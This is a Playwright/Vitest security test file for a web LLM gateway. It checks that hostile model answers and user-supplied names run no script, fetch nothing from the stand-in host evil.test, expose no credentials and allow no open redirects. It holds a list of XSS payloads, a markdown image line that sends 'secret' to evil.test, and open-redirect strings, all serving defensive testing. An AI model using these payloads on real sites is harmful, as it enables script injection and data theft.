import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type FullHouse, fullHouseMissing, openFullHouse, settled, viewer } from './full-house.js'

const missing = fullHouseMissing()

/** Where nothing of ours may ever ask for anything. */
const evil = 'http://evil.test'
/** As a name of a person, a key or a preset. */
const hostileName = `<img src=x onerror="window.harmed=1"><svg/onload=window.harmed=1>${'"><script>window.harmed=1</script>'}`
/** What a model might write, or be made to write. */
const hostileAnswer = [
  '<script>window.harmed = 1</script><img src=x onerror="window.harmed=1">',
  `![a picture](${evil}/?q=secret) ![data](data:text/html,<script>window.harmed=1</script>)`,
  `[a link](javascript:window.harmed=1) [another](data:text/html,x) [a third](vbscript:x) <${evil}/auto>`,
  `<iframe src="${evil}"></iframe><object data="${evil}"></object><style>@import url(${evil}/s.css)</style>`,
  `<svg onload="window.harmed=1"></svg><math><mtext><img src=x onerror=window.harmed=1></mtext></math>`,
  `<a href="${evil}" ping="${evil}">x</a><form action="${evil}"><input autofocus onfocus=window.harmed=1>`,
  '```mermaid\ngraph TD; A["<img src=x onerror=window.harmed=1>"]\n```',
  '$$\\href{javascript:window.harmed=1}{x}$$',
  `[ref]: ${evil}/ref\n![by reference][ref]`,
  '| a | <img src=x onerror=window.harmed=1> |\n| --- | --- |\n| b | c |',
  'The end.',
].join('\n\n')

describe.skipIf(missing !== undefined)(`hostile words${missing ? ` (skipped: ${missing})` : ''}`, () => {
  let house: FullHouse
  let page: Page
  const dialogs: string[] = []
  const strangers: string[] = []

  beforeAll(async () => {
    house = await openFullHouse({ empty: true })
    page = await house.visit()
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message())
      void dialog.dismiss()
    })
    page.context().on('request', (request) => {
      const url = new URL(request.url())
      if (url.origin !== house.url && url.protocol !== 'data:') strangers.push(request.url())
    })
  })
  afterAll(() => house?.close())

  const unharmed = async () => {
    await page.waitForTimeout(300)
    expect(await page.evaluate('window.harmed')).toBeUndefined()
    expect(dialogs).toEqual([])
    expect(strangers).toEqual([])
    // Somebody else's picture would be one that our policy has stopped; it is not even asked for.
    expect(await page.locator(`main [src*="evil.test"]`).count()).toBe(0)
    expect(
      await page
        .locator('main a[href^="javascript:"], main a[href^="data:"], main a[href^="vbscript:"]')
        .count(),
    ).toBe(0)
    expect(
      await page.locator('main').locator('iframe, object, embed, form[action], base, script, style').count(),
    ).toBe(0)
  }
  const api = async (path: string, body: unknown, method = 'POST') => {
    const answer = await page.request.fetch(path, { method, data: body, headers: { origin: house.url } })
    expect(answer.ok(), `${path}: ${await answer.text()}`).toBe(true)
    return (await answer.json()) as { id: string }
  }

  it('T71: an answer is shown as text and Markdown, runs nothing and fetches nothing', async () => {
    house.openai.next({ text: hostileAnswer })
    await page.goto('/playground?model=openai/gpt-4o')
    await settled(page)
    await page.getByRole('textbox', { name: 'Prompt', exact: true }).fill('Say something')
    await page.keyboard.press('Control+Enter')
    await page.getByText('The end.').waitFor()
    await unharmed()
    // It is there to be read all the same.
    await page.getByText('a picture').first().waitFor()
    const links = await page
      .locator('main a[target=_blank]')
      .evaluateAll((found) => found.map((link) => link.getAttribute('rel')))
    for (const rel of links) expect(rel).toContain('noopener')
  })

  it('T71: and so it is in the history', async () => {
    const list = await page.request.get('/api/v1/history?limit=1')
    const { data } = (await list.json()) as { data: { id: string }[] }
    await page.goto(`/history?call=${data[0]?.id}`)
    await page.getByText('The end.').waitFor()
    await unharmed()
  })

  it('T71: names that people give are text on every page', { timeout: 120_000 }, async () => {
    await api('/api/v1/users/me', { name: hostileName }, 'PATCH')
    const inAMonth = new Date(Date.now() + 30 * 86_400_000).toISOString()
    await api('/api/v1/keys', { name: hostileName.slice(0, 100), expires_at: inAMonth })
    await api('/api/v1/presets', {
      name: hostileName.slice(0, 100),
      provider: 'openai',
      model: `<img src=x onerror=window.harmed=1>`,
      parameters: { system: hostileName },
    })
    // A model that nobody has is a row of the history all the same.
    await page.request.post('/v1/chat/completions', {
      data: { model: `openai/${hostileName}`, messages: [{ role: 'user', content: hostileName }] },
      headers: { origin: house.url },
    })
    const me = (await (await page.request.get('/auth/profile')).json()) as { user_id: string }
    for (const path of [
      '/start',
      '/playground',
      '/history',
      '/usage?split=model',
      '/usage?split=principal&of=all',
      '/keys',
      '/catalog',
      '/settings',
      '/admin/users',
      `/admin/users/${me.user_id}`,
      '/admin/credentials',
      '/admin/audit',
      '/admin/status',
    ]) {
      await page.goto(path)
      await settled(page)
      await unharmed()
    }
    await page.goto('/start')
    await page.keyboard.press('Control+k')
    await page.getByRole('combobox', { name: 'What are you looking for?' }).waitFor()
    await page.keyboard.type(viewer)
    await page.getByRole('option', { name: /onerror/ }).waitFor()
    await unharmed()
  })

  it('T71: codes and searches in the address are not written on the page', async () => {
    for (const path of [
      `/sign-in?error=${encodeURIComponent(hostileName)}`,
      `/settings?link_error=${encodeURIComponent(hostileName)}`,
      `/admin/users?query=${encodeURIComponent(hostileName)}`,
      `/history?provider=${encodeURIComponent(hostileName)}`,
      `/catalog?query=${encodeURIComponent(hostileName)}`,
      `/?sign_in_error=${encodeURIComponent(hostileName)}`,
    ]) {
      await page.goto(path)
      await page.waitForLoadState('networkidle')
      await unharmed()
    }
  })

  it('T72: nothing that a script can read holds a credential', async () => {
    await page.goto('/start')
    await settled(page)
    const readable = (await page.evaluate(`JSON.stringify([
      document.cookie, { ...localStorage }, { ...sessionStorage }, document.documentElement.outerHTML,
      Object.keys(window).map((name) => { try { return typeof window[name] === 'string' ? window[name] : '' } catch { return '' } }),
    ])`)) as string
    const cookies = await page.context().cookies()
    const session = cookies.find(({ name }) => name.endsWith('gatehouse_session'))
    expect(session).toMatchObject({ httpOnly: true, sameSite: 'Lax' })
    expect(readable).not.toContain(session?.value)
    expect(readable).not.toMatch(/eyJ[\w-]{10,}\.[\w-]{10,}/)
    expect(readable).not.toMatch(/gh_[\w-]{30,}/)
    expect(await page.evaluate('document.cookie')).toBe('')
  })

  it('T76: a way back after the sign-in leads to no other site', async () => {
    const stranger = await house.visit({ email: null })
    for (const next of [
      '//evil.test',
      '/\\evil.test',
      'https:evil.test',
      'javascript:alert(1)',
      'http://evil.test/',
    ]) {
      await stranger.goto(`/sign-in?next=${encodeURIComponent(next)}`)
      const href = await stranger.getByRole('link', { name: /^Continue with Local/ }).getAttribute('href')
      expect(new URL(href ?? '', house.url).searchParams.get('next'), next).toBe('/start')
    }
    for (const next of ['/.//evil.test', '/x/..//evil.test', '//evil.test']) {
      await page.goto(`/sign-in?next=${encodeURIComponent(next)}`)
      await page.waitForLoadState('networkidle')
      expect(new URL(page.url()).origin, next).toBe(house.url)
    }
  })
})
